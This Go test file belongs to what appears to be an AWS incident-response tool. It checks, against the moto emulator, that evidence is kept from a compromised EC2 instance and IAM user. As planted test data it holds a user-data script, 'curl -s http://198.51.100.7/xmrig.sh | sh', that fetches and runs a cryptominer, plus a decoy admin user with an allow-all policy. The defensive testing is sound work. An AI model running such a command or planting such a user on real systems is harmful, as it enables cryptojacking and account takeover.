package resource_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"

	"github.com/keyleak/keyleak/internal/awsapi"
	"github.com/keyleak/keyleak/internal/mototest"
	"github.com/keyleak/keyleak/resource"
)

// memKeeper keeps evidence in memory; it records a download's URL without
// fetching it (an emulator's code location may name a real AWS host).
type memKeeper struct {
	calls     []string
	files     map[string][]byte
	downloads map[string]string
	missing   []string
}

func (k *memKeeper) Call(_ context.Context, action string, _ map[string]string, do func() (any, error)) error {
	k.calls = append(k.calls, action)
	_, err := do()
	return err
}
func (k *memKeeper) Save(name string, data []byte) error { k.files[name] = data; return nil }
func (k *memKeeper) Download(_ context.Context, name, url string) error {
	k.downloads[name] = url
	return nil
}
func (k *memKeeper) Missing(what string, err error) {
	k.missing = append(k.missing, what+": "+err.Error())
}
func (k *memKeeper) CaseID() string { return "keyleak-case-test" }

// TestEvidenceAgainstMoto keeps an instance's and a user's evidence from
// moto_server, the independent emulator: the calls and their answers have
// the real wire shapes.
func TestEvidenceAgainstMoto(t *testing.T) {
	moto := mototest.Start(t)
	ctx := context.Background()
	cfg := moto.Config("AKIAIOSFODNN7EXAMPLE", "secret", "eu-west-1")
	e := ec2.NewFromConfig(cfg)
	script := "#!/bin/sh\ncurl -s http://198.51.100.7/xmrig.sh | sh\n"
	out, err := e.RunInstances(ctx, &ec2.RunInstancesInput{ImageId: aws.String("ami-12c6146b"), MinCount: aws.Int32(1), MaxCount: aws.Int32(1),
		InstanceType: ec2types.InstanceTypeC54xlarge, UserData: aws.String(base64.StdEncoding.EncodeToString([]byte(script)))})
	if err != nil {
		t.Fatal(err)
	}
	id := aws.ToString(out.Instances[0].InstanceId)
	c := resource.NewClients(awsapi.NewClients(cfg))
	k := &memKeeper{files: map[string][]byte{}, downloads: map[string]string{}}
	kind, _ := resource.Lookup(resource.TypeInstance)
	if err := kind.Evidence(ctx, &c, resource.Resource{Type: resource.TypeInstance, ID: id, Region: "eu-west-1"}, k); err != nil {
		t.Fatal(err)
	}
	if len(k.missing) > 0 {
		t.Errorf("not kept from moto: %v", k.missing)
	}
	if string(k.files["user-data.bin"]) != script {
		t.Errorf("user data = %q", k.files["user-data.bin"])
	}
	var snaps []map[string]string
	if err := json.Unmarshal(k.files["snapshots.json"], &snaps); err != nil || len(snaps) == 0 || !strings.HasPrefix(snaps[0]["snapshotId"], "snap-") {
		t.Errorf("snapshots.json = %s (%v)", k.files["snapshots.json"], err)
	}
	for _, name := range []string{"instance.json", "console-output.txt"} {
		if len(k.files[name]) == 0 {
			t.Errorf("no %s", name)
		}
	}
	want := []string{"ec2:DescribeInstances", "ec2:CreateSnapshot", "ec2:GetConsoleOutput", "ec2:DescribeInstanceAttribute"}
	if strings.Join(k.calls, " ") != strings.Join(want, " ") {
		t.Errorf("calls = %v, want %v", k.calls, want)
	}

	// A user's inline and attached policies.
	ic := iam.NewFromConfig(cfg)
	doc := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`
	for _, err := range []error{
		func() error {
			_, err := ic.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String("backup-admin")})
			return err
		}(),
		func() error {
			_, err := ic.PutUserPolicy(ctx, &iam.PutUserPolicyInput{UserName: aws.String("backup-admin"), PolicyName: aws.String("all"), PolicyDocument: aws.String(doc)})
			return err
		}(),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	k = &memKeeper{files: map[string][]byte{}, downloads: map[string]string{}}
	kind, _ = resource.Lookup(resource.TypeUser)
	if err := kind.Evidence(ctx, &c, resource.Resource{Type: resource.TypeUser, ID: "backup-admin", Region: resource.GlobalRegion}, k); err != nil {
		t.Fatal(err)
	}
	var pol struct {
		InlinePolicies map[string]json.RawMessage `json:"inlinePolicies"`
	}
	if err := json.Unmarshal(k.files["policies.json"], &pol); err != nil || !strings.Contains(strings.Join(strings.Fields(string(pol.InlinePolicies["all"])), ""), `"Action":"*"`) || len(k.missing) > 0 {
		t.Errorf("policies.json = %s (%v), missing %v", k.files["policies.json"], err, k.missing)
	}
}
